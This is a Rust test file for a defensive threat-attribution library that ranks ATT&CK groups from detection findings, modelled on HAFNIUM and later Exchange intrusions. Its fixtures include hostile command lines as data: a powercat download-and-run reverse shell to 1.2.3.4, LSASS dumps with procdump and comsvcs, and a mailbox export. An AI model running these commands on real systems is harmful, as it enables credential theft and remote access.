//! Knowledge base, profile and scoring tests on the shipped knowledge base and hand-made findings.

use chrono::{DateTime, Utc};
use std::collections::HashMap;

use exhunt_attribute::{
    Attribution, Confidence, EvidenceKind, HypothesisKind, IntrusionProfile, KnowledgeBase,
    Likelihood, Params, attribute, profile, rank_groups, render_text,
};
use exhunt_model::{Finding, RuleRef};
use serde_json::{Map, Value, json};

fn t(s: &str) -> DateTime<Utc> {
    s.parse().unwrap()
}

fn finding(id: &str, title: &str, tags: &[&str], time: Option<&str>, fields: Value) -> Finding {
    let fields: Map<String, Value> = fields.as_object().cloned().unwrap_or_default();
    Finding {
        id: id.into(),
        rule: RuleRef {
            id: format!("rule-{id}"),
            title: title.into(),
            level: "high".into(),
            source: "sigma:test".into(),
        },
        tags: tags.iter().map(|s| s.to_string()).collect(),
        time: time.map(t),
        host: Some("EXCH01".into()),
        evidence: Vec::new(),
        fields,
    }
}

/// Findings resembling the 2021 HAFNIUM intrusion; `day` is the exploitation date.
fn hafnium_like(day: &str) -> Vec<Finding> {
    let at = |hm: &str| format!("{day}T{hm}:00Z");
    vec![
        finding(
            "f01",
            "ProxyLogon SSRF",
            &["attack.initial-access", "attack.t1190", "cve.2021-26855"],
            Some(&at("02:57")),
            json!({"c-ip": "167.99.168.251", "cs-uri-stem": "/ecp/y.js"}),
        ),
        finding(
            "f02",
            "ProxyLogon Virtual Directory Reset",
            &["attack.persistence", "attack.t1505.003", "cve.2021-27065"],
            Some(&at("02:58")),
            json!({}),
        ),
        finding(
            "f03",
            "OAB Generator Wrote a Temporary File",
            &["attack.t1190", "cve.2021-26858"],
            Some(&at("02:59")),
            json!({}),
        ),
        finding(
            "f04",
            "Unexpected ASP.NET Page in an Exchange or IIS Web Folder",
            &["attack.persistence", "attack.t1505.003"],
            None,
            json!({"Path": "C/inetpub/wwwroot/aspnet_client/system_web/AONXHKFPLZ.aspx", "FileName": "AONXHKFPLZ.aspx"}),
        ),
        finding(
            "f05",
            "China Chopper Command Wrapper in a Command Line",
            &[
                "attack.persistence",
                "attack.t1505.003",
                "attack.execution",
                "attack.t1059.003",
            ],
            Some(&at("03:12")),
            json!({"CommandLine": "cmd /c cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\"&whoami&echo [S]&cd&echo [E]", "ParentImage": "C:\\Windows\\System32\\inetsrv\\w3wp.exe"}),
        ),
        finding(
            "f06",
            "LSASS Memory Dump With comsvcs.dll MiniDump or ProcDump",
            &["attack.credential-access", "attack.t1003.001"],
            Some(&at("03:31")),
            json!({"CommandLine": "procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass.dmp"}),
        ),
        finding(
            "f07",
            "Archiver Writing to a Staging Folder on an Exchange Server",
            &["attack.collection", "attack.t1560.001", "attack.t1074.001"],
            Some(&at("03:44")),
            json!({"Image": "C:\\Program Files\\7-Zip\\7z.exe", "CommandLine": "7z.exe a C:\\ProgramData\\it.zip C:\\windows\\temp\\lsass.dmp"}),
        ),
        finding(
            "f08",
            "Exchange Management Snap-In Loaded From a PowerShell Command",
            &[
                "attack.execution",
                "attack.t1059.001",
                "attack.collection",
                "attack.t1114.001",
            ],
            Some(&at("03:53")),
            json!({"CommandLine": "powershell.exe -c Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; New-MailboxExportRequest -Mailbox ceo"}),
        ),
        finding(
            "f09",
            "PowerShell Reverse Shell",
            &["attack.execution", "attack.t1059.001", "attack.t1105"],
            Some(&at("04:01")),
            json!({"CommandLine": "powershell IEX (New-Object System.Net.Webclient).DownloadString('https://raw.githubusercontent.com/besimorhino/powercat/master/powercat.ps1'); powercat -c 1.2.3.4 -p 443 -e powershell"}),
        ),
        finding(
            "f10",
            "Nishang One-Liner",
            &["attack.execution", "attack.t1059.001"],
            Some(&at("04:05")),
            json!({"CommandLine": "powershell -nop -c Invoke-PowerShellTcpOneLine"}),
        ),
    ]
}

fn hyp<'a>(a: &'a Attribution, id: &str) -> &'a exhunt_attribute::HypothesisResult {
    a.hypotheses
        .iter()
        .find(|h| h.id == id)
        .unwrap_or_else(|| panic!("{id} not shown"))
}

#[test]
fn kb_loads_with_groups_software_and_notice() {
    let kb = KnowledgeBase::embedded();
    assert!(kb.groups.len() >= 150, "{} groups", kb.groups.len());
    assert!(kb.techniques.len() >= 500);
    assert_eq!(kb.software["S0020"].name, "China Chopper");
    assert_eq!(kb.software["S0002"].name, "Mimikatz");
    assert_eq!(kb.software["S0154"].name, "Cobalt Strike");
    assert_eq!(kb.software["S0013"].name, "PlugX");
    assert_eq!(kb.software["S0596"].name, "ShadowPad");
    let h = kb.group("G0125").expect("HAFNIUM");
    assert_eq!(h.name, "HAFNIUM");
    assert!(kb.group_features("G0125").contains("S0020"));
    assert!(kb.group_features("G0125").contains("T1505.003"));
    assert!(kb.notice.as_deref().unwrap_or("").contains("MITRE"));
    assert!(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("data/ATTACK-LICENSE.txt")
            .exists()
    );
    // campaigns with attribution are there for the benchmark
    assert!(
        kb.campaigns
            .iter()
            .filter(|c| !c.attributed_to.is_empty())
            .count()
            >= 20
    );
}

#[test]
fn aliases_are_kept_per_source_without_transitive_merge() {
    let kb = KnowledgeBase::embedded();
    let h = kb.group("G0125").unwrap();
    assert!(
        h.aliases
            .microsoft
            .iter()
            .any(|m| m.name == "Silk Typhoon" && m.is_same_as())
    );
    assert!(h.aliases.attack.iter().any(|a| a == "Silk Typhoon"));

    let apt31 = kb
        .group_by_attack_name("APT31")
        .expect("APT31 is an ATT&CK alias");
    assert_eq!(apt31.id, "G0128");
    assert!(
        apt31
            .aliases
            .microsoft
            .iter()
            .any(|m| m.name == "Violet Typhoon")
    );
    let apt40 = kb
        .group_by_attack_name("APT40")
        .expect("APT40 is an ATT&CK alias");
    assert_eq!(apt40.id, "G0065");
    assert!(
        apt40
            .aliases
            .microsoft
            .iter()
            .any(|m| m.name == "Gingham Typhoon")
    );
    // HAFNIUM is not APT31 or APT40 in any source.
    for g in [apt31, apt40] {
        assert!(
            !g.aliases
                .attack
                .iter()
                .any(|a| a.eq_ignore_ascii_case("HAFNIUM"))
        );
        assert!(!g.aliases.microsoft.iter().any(|m| m.name == "Silk Typhoon"));
    }
    // MISP merges Winnti into its APT41 entry; ATT&CK keeps G0044 and G0096 apart, and so do we.
    let winnti = kb.group("G0044").unwrap();
    let apt41 = kb.group("G0096").unwrap();
    assert!(!winnti.aliases.attack.iter().any(|a| a == "APT41"));
    assert!(!apt41.aliases.attack.iter().any(|a| a.contains("Winnti")));
    assert!(
        winnti
            .aliases
            .misp_threat_actor
            .iter()
            .any(|m| m.name == "APT41")
    );
    assert!(kb.group_by_attack_name("Winnti Group").unwrap().id == "G0044");
    // Microsoft's "overlap only" entries are marked, not merged (APT27 under two names).
    let tg3390 = kb.group("G0027").unwrap();
    assert!(
        tg3390
            .aliases
            .microsoft
            .iter()
            .any(|m| m.name == "Circle Typhoon" && !m.is_same_as())
    );
    assert!(
        tg3390
            .aliases
            .microsoft
            .iter()
            .any(|m| m.name == "Linen Typhoon" && m.is_same_as())
    );
}

#[test]
fn base_rates_make_ubiquitous_techniques_weightless() {
    let kb = KnowledgeBase::embedded();
    let n = kb.groups.len();
    let t1059 = kb.groups_using("T1059");
    assert!(t1059 * 2 > n, "T1059 used by {t1059} of {n}");
    let rare = kb.groups_using("S1011"); // Tarrask: HAFNIUM only
    assert_eq!(rare, 1);
    // A technique every group uses scores ~0; a rare one does not.
    let mut p = exhunt_attribute::IntrusionProfile::default();
    p.techniques.insert("T1059".into(), vec!["x".into()]);
    let a = attribute(&p, &kb);
    let e = &a.evidence[0];
    for h in &a.hypotheses {
        let v = h
            .supporting
            .iter()
            .chain(&h.contradicting)
            .find(|s| s.evidence == e.id)
            .map(|s| s.log_lr)
            .unwrap_or(0.0);
        assert!(v.abs() < 0.35, "{} {v}", h.id);
    }
}

#[test]
fn hafnium_like_prepatch_intrusion_ranks_hafnium_first() {
    let kb = KnowledgeBase::embedded();
    let p = profile(&hafnium_like("2021-02-10"));
    assert!(p.techniques.contains_key("T1505.003"));
    assert!(
        p.tools
            .iter()
            .any(|t| t.software.as_deref() == Some("S0020"))
    );
    assert!(p.tools.iter().any(|t| t.name == "ProcDump"));
    assert_eq!(p.timing[0].relative_to_patch, "pre-patch");
    assert!(p.infrastructure.iter().any(|i| i.value == "167.99.168.251"));
    let a = attribute(&p, &kb);
    let top = &a.hypotheses[0];
    assert_eq!(top.id, "G0125", "{}", render_text(&a));
    assert!(top.likelihood >= Likelihood::Likely, "{:?}", top.likelihood);
    assert!(
        top.display_name.contains("Silk Typhoon (Microsoft)"),
        "{}",
        top.display_name
    );
    assert!(top.confidence >= Confidence::Moderate);
    assert!(!a.insufficient_evidence);
    // every supporting item points back at findings
    assert!(top.supporting.iter().all(|s| !s.finding_ids.is_empty()));
    let timing = top
        .supporting
        .iter()
        .find(|s| s.label.contains("ProxyLogon"))
        .expect("timing supports");
    assert!(timing.finding_ids.contains(&"f01".to_string()));
    // the opportunist hypothesis is contradicted by pre-patch exploitation
    let opp = hyp(&a, "opportunist");
    assert!(
        opp.contradicting
            .iter()
            .any(|s| s.label.contains("ProxyLogon"))
    );
    assert!(hyp(&a, "unknown").kind == HypothesisKind::UnknownActor);
    // state links are quoted with their sources
    assert!(top.state_statements.iter().all(|s| !s.citation.is_empty()));
    assert!(
        top.state_statements
            .iter()
            .any(|s| s.statement.quote.as_deref() == Some("highly likely"))
    );
    let text = render_text(&a);
    assert!(text.contains("HAFNIUM"));
}

#[test]
fn post_patch_times_lower_hafnium_and_raise_residual_hypotheses() {
    let kb = KnowledgeBase::embedded();
    let pre = attribute(&profile(&hafnium_like("2021-02-10")), &kb);
    let post = attribute(&profile(&hafnium_like("2021-03-10")), &kb);
    assert!(hyp(&post, "G0125").posterior < hyp(&pre, "G0125").posterior);
    assert!(hyp(&post, "opportunist").posterior > hyp(&pre, "opportunist").posterior);
    assert!(hyp(&post, "unknown").posterior > hyp(&pre, "unknown").posterior);
}

#[test]
fn one_generic_technique_is_insufficient_evidence() {
    let kb = KnowledgeBase::embedded();
    let f = vec![finding(
        "g1",
        "Command line",
        &["attack.execution", "attack.t1059"],
        Some("2023-05-01T10:00:00Z"),
        json!({}),
    )];
    let a = attribute(&profile(&f), &kb);
    assert!(a.insufficient_evidence);
    assert!(
        a.headline.starts_with("Insufficient evidence"),
        "{}",
        a.headline
    );
    assert!(a.hypotheses[0].confidence == Confidence::Low);
    assert!(a.hypotheses[0].posterior < 0.55);
}

/// The HAFNIUM-like findings stripped to what any intruder leaves: technique and CVE tags only,
/// no times, no fields (addresses, paths, command lines), titles that name no tool.
fn stripped(findings: Vec<Finding>) -> Vec<Finding> {
    findings
        .into_iter()
        .map(|mut f| {
            f.time = None;
            f.fields.clear();
            f.rule.title = "Suspicious activity".into();
            f
        })
        .collect()
}

#[test]
fn stripped_hafnium_like_findings_give_no_confident_answer() {
    let kb = KnowledgeBase::embedded();
    let p = profile(&stripped(hafnium_like("2021-02-10")));
    assert!(p.tools.is_empty() && p.timing.is_empty() && p.infrastructure.is_empty());
    assert!(p.techniques.len() >= 5);
    let a = attribute(&p, &kb);
    assert!(a.insufficient_evidence, "{}", a.headline);
    assert!(a.headline.starts_with("Insufficient evidence"));
    let top = &a.hypotheses[0];
    assert_eq!(top.confidence, Confidence::Low, "{}", render_text(&a));
    assert!(top.likelihood < Likelihood::Likely, "{:?}", top.likelihood);
}

#[test]
fn evidence_is_counted_once_however_many_findings_show_it() {
    let kb = KnowledgeBase::embedded();
    let once = hafnium_like("2021-02-10");
    let mut many = once.clone();
    for f in &once {
        for k in 0..3 {
            let mut g = f.clone();
            g.id = format!("{}-copy{k}", f.id);
            many.push(g);
        }
    }
    let a1 = attribute(&profile(&once), &kb);
    let a2 = attribute(&profile(&many), &kb);
    assert_eq!(a1.evidence.len(), a2.evidence.len());
    for (h1, h2) in a1.hypotheses.iter().zip(&a2.hypotheses) {
        assert_eq!(h1.id, h2.id);
        assert!((h1.posterior - h2.posterior).abs() < 1e-9, "{}", h1.id);
    }
    // ... while every finding behind an item is still cited.
    let cc = |a: &Attribution| {
        a.evidence
            .iter()
            .find(|e| e.label.contains("China Chopper") && e.kind == EvidenceKind::Software)
            .map(|e| e.finding_ids.len())
            .expect("China Chopper is an item")
    };
    assert_eq!(cc(&a2), 4 * cc(&a1));
}

/// ATT&CK profiles are partial views: a group that does not list an observed technique or
/// software is not counted against; only positive contradictions (timing, curated facts) are.
#[test]
fn unlisted_attack_features_never_contradict_a_group() {
    let kb = KnowledgeBase::embedded();
    let a = attribute(&profile(&hafnium_like("2021-03-10")), &kb);
    let kind: HashMap<&str, EvidenceKind> =
        a.evidence.iter().map(|e| (e.id.as_str(), e.kind)).collect();
    assert!(kind.values().any(|k| *k == EvidenceKind::Technique));
    for h in &a.hypotheses {
        for c in &h.contradicting {
            assert!(
                !matches!(
                    kind[c.evidence.as_str()],
                    EvidenceKind::Technique | EvidenceKind::Software
                ),
                "{} contradicted by {}",
                h.id,
                c.label
            );
        }
    }
}

/// A sub-technique is scored parent first, then variant: a group listing only a sibling variant
/// earns the parent's share, less than a group listing the exact variant, and a group listing
/// neither stays where the prior put it (its ratio to the unknown actor is the prior ratio).
#[test]
fn sibling_variants_earn_the_parent_share() {
    let kb = KnowledgeBase::embedded();
    let lists = |g: &str, pred: &dyn Fn(&str) -> bool| kb.group_features(g).iter().any(|f| pred(f));
    let find = |pred: &dyn Fn(&str) -> bool| {
        kb.groups
            .iter()
            .map(|g| g.id.as_str())
            .find(|g| pred(g))
            .expect("such a group exists")
    };
    let exact = find(&|g| lists(g, &|f| f == "T1003.001"));
    let sibling =
        find(&|g| !lists(g, &|f| f == "T1003.001") && lists(g, &|f| f.starts_with("T1003.")));
    let neither = find(&|g| !lists(g, &|f| f.starts_with("T1003")));
    let mut p = IntrusionProfile::default();
    p.techniques.insert("T1003.001".into(), vec!["x".into()]);
    let params = Params::default();
    let post: HashMap<String, f64> = rank_groups(&p, &kb, &params).into_iter().collect();
    assert!(post[exact] > post[sibling], "{exact} vs {sibling}");
    assert!(post[sibling] > post[neither], "{sibling} vs {neither}");
    let named = (post.len() - 2) as f64;
    let prior_ratio =
        (1.0 - params.prior_unknown - params.prior_opportunist) / named / params.prior_unknown;
    assert!((post[neither] / post["unknown"] - prior_ratio).abs() < 1e-9);
}

/// Software anyone can run (ATT&CK type "tool") weighs less than a malware family.
#[test]
fn public_tools_weigh_less_than_malware_families() {
    let kb = KnowledgeBase::embedded();
    assert_eq!(kb.software["S0002"].kind, "tool");
    assert_eq!(kb.software["S0020"].kind, "malware");
    let f = vec![finding(
        "t1",
        "Tools",
        &["attack.s0002", "attack.s0020"],
        None,
        json!({}),
    )];
    let a = attribute(&profile(&f), &kb);
    let weight = |name: &str| {
        a.evidence
            .iter()
            .find(|e| e.kind == EvidenceKind::Software && e.label.contains(name))
            .map(|e| e.weight)
            .expect("software item")
    };
    assert!(weight("Mimikatz") < weight("China Chopper"));
}

/// A family many ATT&CK groups use (China Chopper) is weighed by its base rate only, even where
/// a curated Exchange report names it for one cluster (ToddyCat); a family one group uses
/// (HyperBro) also counts as that cluster's curated fact.
#[test]
fn shared_families_earn_no_curated_campaign_fact() {
    let kb = KnowledgeBase::embedded();
    assert!(kb.groups_using("S0020") >= 5);
    assert_eq!(kb.groups_using("S0398"), 1);
    let f = vec![finding(
        "t1",
        "Tools",
        &["attack.s0020", "attack.s0398"],
        None,
        json!({}),
    )];
    let a = attribute(&profile(&f), &kb);
    let campaign_tools: Vec<&str> = a
        .evidence
        .iter()
        .filter(|e| e.kind == EvidenceKind::CampaignTool)
        .map(|e| e.label.as_str())
        .collect();
    assert_eq!(campaign_tools.len(), 1, "{campaign_tools:?}");
    assert!(campaign_tools[0].contains("HyperBro"), "{campaign_tools:?}");
    assert!(
        a.evidence
            .iter()
            .any(|e| e.kind == EvidenceKind::Software && e.label.contains("China Chopper"))
    );
}

#[test]
fn eset_tick_indicator_supports_tick() {
    let kb = KnowledgeBase::embedded();
    let f = vec![finding(
        "i1",
        "IOC: ESET Exchange web shell",
        &["attack.persistence", "attack.t1505.003"],
        Some("2021-02-28T12:00:00Z"),
        json!({"Path": "C:\\inetpub\\wwwroot\\aspnet_client\\aspnet.aspx", "ioc_label": "Tick", "ioc_source": "ESET exchange_exploitation", "cs-uri-stem": "/aspnet_client/aspnet.aspx"}),
    )];
    let p = profile(&f);
    assert_eq!(p.indicators[0].label, "Tick");
    let a = attribute(&p, &kb);
    let top = &a.hypotheses[0];
    assert_eq!(top.id, "G0060", "{}", render_text(&a));
    assert!(top.display_name.contains("Tick"));
    assert!(
        top.supporting
            .iter()
            .any(|s| s.label.contains("labelled \"Tick\"")
                && s.finding_ids == vec!["i1".to_string()])
    );
    assert!(
        top.supporting
            .iter()
            .any(|s| s.label.contains("aspnet.aspx"))
    );
}

/// A labelled path pattern (which many intruders' files also match) weighs less than a labelled
/// exact indicator such as a hash.
#[test]
fn labelled_path_patterns_weigh_less_than_exact_indicators() {
    let kb = KnowledgeBase::embedded();
    let weight_of = |kind: &str| {
        let f = vec![finding(
            "i1",
            "IOC match",
            &["attack.persistence", "attack.t1505.003"],
            Some("2021-03-05T12:00:00Z"),
            json!({"Path": "C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx", "ioc_label": "Tick", "ioc_source": "ESET", "ioc_kind": kind}),
        )];
        let a = attribute(&profile(&f), &kb);
        a.evidence
            .iter()
            .find(|e| e.label.contains("labelled \"Tick\""))
            .map(|e| e.weight)
            .expect("the indicator is an evidence item")
    };
    let pattern = weight_of("path_regex");
    let hash = weight_of("sha256");
    assert!(pattern < hash, "pattern {pattern} vs hash {hash}");
    assert!(pattern > 0.0);
}

#[test]
fn state_statements_are_quotes_with_sources() {
    let kb = KnowledgeBase::embedded();
    let st = &kb.exchange.state_statements;
    assert!(!st.is_empty());
    for s in st {
        let src = kb
            .exchange
            .sources
            .get(&s.source)
            .expect("statement source exists");
        assert!(!src.publisher.is_empty() && !src.date.is_empty());
        assert!(s.quote.is_some() || s.quote_context.is_some());
    }
    assert!(
        st.iter()
            .any(|s| s.intrusion_set.as_deref() == Some("G0128") && s.state_entity.contains("MSS"))
    );
    assert!(
        st.iter()
            .any(|s| s.intrusion_set.as_deref() == Some("G0065") && s.state_entity.contains("MSS"))
    );
    assert!(st.iter().any(|s| {
        s.quote
            .as_deref()
            .is_some_and(|q| q.contains("high degree of confidence"))
    }));
    // every curated fact cites a known source
    for c in &kb.exchange.clusters {
        for e in &c.exploitation {
            assert!(kb.exchange.sources.contains_key(&e.source), "{}", e.source);
        }
        for w in &c.webshells {
            assert!(kb.exchange.sources.contains_key(&w.source));
        }
        for t in &c.tools {
            assert!(kb.exchange.sources.contains_key(&t.source));
        }
    }
    let eset = kb
        .exchange
        .clusters
        .iter()
        .filter(|c| c.named_by == "eset-2021-03-10")
        .count();
    assert!(eset >= 10, "ESET clusters: {eset}");
}

#[test]
fn attribution_json_round_trips() {
    let kb = KnowledgeBase::embedded();
    let a = attribute(&profile(&hafnium_like("2021-02-10")), &kb);
    let s = serde_json::to_string_pretty(&a).unwrap();
    let back: Attribution = serde_json::from_str(&s).unwrap();
    assert_eq!(back, a);
    assert!(s.contains("\"likelihood\": \""));
}

#[test]
fn bundle_loader_matches_shipped_kb_when_data_present() {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/attack/enterprise-attack-18.1.json.xz");
    if !path.exists() {
        println!("SKIP: {} absent", path.display());
        return;
    }
    let kb = exhunt_attribute::load_attack_bundle(&path).unwrap();
    let shipped = KnowledgeBase::embedded();
    assert_eq!(kb.groups.len(), shipped.groups.len());
    assert_eq!(kb.group_features("G0125"), shipped.group_features("G0125"));
    assert_eq!(
        kb.group("G0125").unwrap().aliases.microsoft,
        shipped.group("G0125").unwrap().aliases.microsoft
    );
    assert_eq!(kb.attack.version.as_deref(), Some("18.1"));
}

/// A rule firing thousands of times cites a bounded sample of its findings (the earliest, as
/// findings come sorted), so the profile and `attribution.json` stay small.
#[test]
fn cited_findings_per_item_are_bounded() {
    let many: Vec<Finding> = (0..5000)
        .map(|i| {
            finding(
                &format!("n{i:05}"),
                "Web shell request",
                &["attack.persistence", "attack.t1505.003"],
                None,
                json!({}),
            )
        })
        .collect();
    let p = profile(&many);
    let ids = &p.techniques["T1505.003"];
    assert_eq!(ids.len(), exhunt_attribute::MAX_CITED_FINDINGS);
    assert_eq!(ids[0], "n00000");
    assert_eq!(p.finding_count, 5000);
}

/// The two leave-one-campaign-out protocols of the benchmark: the literal one removes only the
/// campaign (its edges and its link to the group) and keeps every edge of the group; the strict
/// one also drops the group's edges that only the campaign's own reports support.
#[test]
fn literal_leave_one_out_keeps_group_edges_strict_drops_same_report_ones() {
    let kb = KnowledgeBase::embedded();
    let mut strict_dropped_something = false;
    for c in kb.campaigns.iter().filter(|c| !c.attributed_to.is_empty()) {
        let literal = kb.without_campaign_edges(&c.id);
        let strict = kb.without_campaign(&c.id);
        for loo in [&literal, &strict] {
            assert!(loo.campaigns.iter().all(|x| x.id != c.id));
            assert!(loo.groups.iter().all(|g| !g.campaigns.contains(&c.id)));
        }
        for gid in &c.attributed_to {
            let own: Vec<&str> = kb
                .group(gid)
                .unwrap()
                .uses
                .iter()
                .map(|u| u.0.as_str())
                .collect();
            let lit = literal.group_features(gid);
            assert!(
                own.iter().all(|f| lit.contains(*f)),
                "{}: literal lost an own edge of {gid}",
                c.id
            );
            let st = strict.group_features(gid);
            assert!(st.is_subset(&lit), "{}", c.id);
            strict_dropped_something |= st.len() < lit.len();
        }
    }
    assert!(
        strict_dropped_something,
        "strict never differs from literal"
    );
}

/// Posteriors keep `model_error` of their mass on the prior: however one-sided the evidence,
/// no hypothesis is stated near certainty or ruled out for good.
#[test]
fn posteriors_keep_a_share_for_model_error() {
    let kb = KnowledgeBase::embedded();
    // Every family ATT&CK gives to exactly one group, for the group with most of them.
    let unique = |g: &str| -> Vec<String> {
        kb.group_features(g)
            .into_iter()
            .filter(|f| f.starts_with('S') && kb.groups_using(f) == 1)
            .collect()
    };
    let group = kb
        .groups
        .iter()
        .map(|g| g.id.clone())
        .max_by_key(|g| unique(g).len())
        .unwrap();
    let mut p = IntrusionProfile::default();
    for s in unique(&group) {
        p.tools.push(exhunt_attribute::ToolObservation {
            name: s.clone(),
            software: Some(s.clone()),
            matched: "test".into(),
            finding_ids: vec!["f".into()],
        });
    }
    assert!(p.tools.len() >= 3, "{group}: {}", p.tools.len());
    let sharp = Params {
        model_error: 0.0,
        ..Params::default()
    };
    let r = rank_groups(&p, &kb, &sharp);
    assert_eq!(r[0].0, group);
    assert!(
        r[0].1 > 0.99,
        "without the share the leader is near certain"
    );
    let params = Params::default();
    assert!(params.model_error > 0.0);
    let r = rank_groups(&p, &kb, &params);
    assert_eq!(r[0].0, group);
    assert!(r[0].1 <= 1.0 - params.model_error * 0.5, "{}", r[0].1);
    let named = (r.len() - 2) as f64;
    let floor =
        params.model_error * (1.0 - params.prior_unknown - params.prior_opportunist) / named;
    assert!(
        r.iter().all(|(_, p)| *p >= floor * 0.999),
        "a hypothesis fell below its floor"
    );
    let a = attribute(&p, &kb);
    assert!(render_text(&a).lines().all(|l| !l.contains("100.0%")));
}

/// Technique lists are correlated: past `technique_independent_count` items their total weight
/// grows with the square root of their number, not in proportion (the bench measures what this
/// does to calibration).
#[test]
fn long_technique_lists_share_their_weight() {
    let kb = KnowledgeBase::embedded();
    let techniques = |g: &str| -> Vec<String> {
        kb.group_features(g)
            .into_iter()
            .filter(|f| f.starts_with('T'))
            .collect()
    };
    let group = kb
        .groups
        .iter()
        .map(|g| g.id.clone())
        .max_by_key(|g| techniques(g).len())
        .unwrap();
    let all = techniques(&group);
    let params = Params::default();
    let independent = params.technique_independent_count as usize;
    let k = all.len() / independent;
    assert!(k >= 3, "{group}: {}", all.len());
    let evidence = |n: usize| {
        let mut p = IntrusionProfile::default();
        for t in &all[..n] {
            p.techniques.insert(t.clone(), vec!["f".into()]);
        }
        p
    };
    // Up to the independent count every item weighs in full.
    let short = exhunt_attribute::attribute_with(&evidence(independent), &kb, &params);
    assert!(
        short
            .evidence
            .iter()
            .all(|e| (e.weight - params.w_technique).abs() < 1e-12)
    );
    // k times as many items carry sqrt(k) times the weight in total, not k times.
    let long = exhunt_attribute::attribute_with(&evidence(k * independent), &kb, &params);
    let total = |a: &Attribution| a.evidence.iter().map(|e| e.weight).sum::<f64>();
    assert!((total(&long) / total(&short) - (k as f64).sqrt()).abs() < 1e-9);
}

/// Later Exchange chains with generic tradecraft never point at HAFNIUM. A ProxyShell intrusion
/// in the style the DFIR Report published for Magic Hound (mailbox export, comsvcs MiniDump,
/// FRP) leans to Magic Hound, but only weakly: each item is a public tool or a common
/// technique. A bare ProxyNotShell exploit plus a web shell names nobody.
#[test]
fn later_chains_with_generic_tradecraft_stay_weak_and_off_hafnium() {
    let kb = KnowledgeBase::embedded();
    let proxyshell = vec![
        finding(
            "p1",
            "ProxyShell Autodiscover SSRF",
            &["attack.initial-access", "attack.t1190", "cve.2021-34473"],
            Some("2021-09-14T10:00:00Z"),
            json!({"c-ip": "198.51.100.7"}),
        ),
        finding(
            "p2",
            "ProxyShell mailbox export to aspx",
            &["attack.persistence", "attack.t1505.003", "cve.2021-31207"],
            Some("2021-09-14T10:05:00Z"),
            json!({"CommandLine": "New-MailboxExportRequest -Mailbox a -FilePath \\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx"}),
        ),
        finding(
            "p3",
            "LSASS dump comsvcs",
            &["attack.credential-access", "attack.t1003.001"],
            Some("2021-09-14T11:00:00Z"),
            json!({"CommandLine": "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 600 C:\\windows\\temp\\l.dmp full"}),
        ),
        finding(
            "p4",
            "Tunnel",
            &["attack.command-and-control", "attack.t1572"],
            Some("2021-09-14T12:00:00Z"),
            json!({"CommandLine": "C:\\programdata\\frpc.exe -c frpc.ini"}),
        ),
    ];
    let generic_2022 = vec![
        finding(
            "g1",
            "ProxyNotShell",
            &["attack.initial-access", "attack.t1190", "cve.2022-41040"],
            Some("2022-10-20T10:00:00Z"),
            json!({}),
        ),
        finding(
            "g2",
            "Web shell",
            &["attack.persistence", "attack.t1505.003"],
            Some("2022-10-20T10:05:00Z"),
            json!({}),
        ),
    ];
    let a = attribute(&profile(&proxyshell), &kb);
    assert!(a.insufficient_evidence, "{}", render_text(&a));
    assert_eq!(a.hypotheses[0].id, "G0059", "{}", render_text(&a));
    assert!(a.hypotheses[0].likelihood <= Likelihood::Unlikely);
    assert!(hyp(&a, "G0125").likelihood == Likelihood::AlmostNoChance);

    let a = attribute(&profile(&generic_2022), &kb);
    assert!(a.insufficient_evidence, "{}", render_text(&a));
    assert!(
        a.hypotheses
            .iter()
            .filter(|h| h.kind == HypothesisKind::AttackGroup)
            .all(|h| h.likelihood == Likelihood::AlmostNoChance),
        "{}",
        render_text(&a)
    );
    assert!(hyp(&a, "G0125").posterior < hyp(&a, "opportunist").posterior);
}

/// Leaving one report out removes exactly the group's edges that only this report supports:
/// an edge another report also cites stays, and other groups are untouched.
#[test]
fn leaving_a_report_out_drops_only_what_it_alone_supports() {
    let kb = KnowledgeBase::embedded();
    let hafnium = kb.group("G0125").unwrap();
    // The report behind most of HAFNIUM's own edges.
    let mut counts: HashMap<usize, usize> = HashMap::new();
    for u in &hafnium.uses {
        for &c in &u.1 {
            *counts.entry(c).or_default() += 1;
        }
    }
    let (&report, _) = counts.iter().max_by_key(|(c, n)| (**n, **c)).unwrap();
    let sole: Vec<&str> = hafnium
        .uses
        .iter()
        .filter(|u| u.1 == [report])
        .map(|u| u.0.as_str())
        .collect();
    let shared: Vec<&str> = hafnium
        .uses
        .iter()
        .filter(|u| u.1.contains(&report) && u.1.len() > 1)
        .map(|u| u.0.as_str())
        .collect();
    assert!(
        !sole.is_empty() && !shared.is_empty(),
        "{sole:?} {shared:?}"
    );
    let loo = kb.without_report("G0125", report);
    let before = kb.group_features("G0125");
    let after = loo.group_features("G0125");
    for f in &shared {
        assert!(after.contains(*f), "{f} is also cited elsewhere");
    }
    // A sole-cited feature stays only if another edge (another report) also gives it.
    let elsewhere = |f: &str| {
        hafnium.uses.iter().any(|u| u.0 == f && u.1 != [report])
            || hafnium.campaigns.iter().any(|c| {
                kb.campaigns
                    .iter()
                    .any(|x| &x.id == c && x.uses.iter().any(|u| u.0 == f && u.1 != [report]))
            })
    };
    assert!(sole.iter().any(|f| !after.contains(*f)));
    for f in &sole {
        assert_eq!(after.contains(*f), elsewhere(f), "{f}");
    }
    assert!(after.is_subset(&before));
    assert_eq!(loo.group_features("G0096"), kb.group_features("G0096"));
}
